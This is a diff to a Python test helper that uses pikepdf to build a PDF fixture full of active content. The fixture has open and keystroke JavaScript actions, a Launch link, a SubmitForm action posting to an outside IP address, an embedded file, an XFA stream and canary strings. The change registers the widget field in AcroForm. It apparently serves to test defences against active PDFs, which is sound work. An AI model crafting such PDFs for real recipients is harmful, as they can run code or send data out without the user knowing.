@@ -104,12 +104,13 @@ def pdf_that_acts() -> bytes:
         submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://198.51.100.7/")
         page = paper.pages[0].obj
         page.AA = pikepdf.Dictionary(O=script)
+        field = paper.make_indirect(_annotation("/Widget", AA=pikepdf.Dictionary(K=script)))
         page.Annots = pikepdf.Array(
             [
                 paper.make_indirect(_annotation("/Link", A=launch)),
                 paper.make_indirect(_annotation("/Link", A=submit)),
                 paper.make_indirect(_annotation("/FileAttachment")),
-                paper.make_indirect(_annotation("/Widget", AA=pikepdf.Dictionary(K=script))),
+                field,
             ]
         )
         paper.attachments["rechnung.xml"] = b"<rechnung>ENCLOSED-CANARY</rechnung>"
@@ -119,7 +120,7 @@ def pdf_that_acts() -> bytes:
             Names=pikepdf.Array(["start", paper.make_indirect(script)])
         )
         root.AcroForm = pikepdf.Dictionary(
-            Fields=pikepdf.Array([]), XFA=paper.make_stream(b"<xdp>XFA-CANARY</xdp>")
+            Fields=pikepdf.Array([field]), XFA=paper.make_stream(b"<xdp>XFA-CANARY</xdp>")
         )
         paper.docinfo["/Author"] = "Oksana Kovalenko"
         paper.save(written)
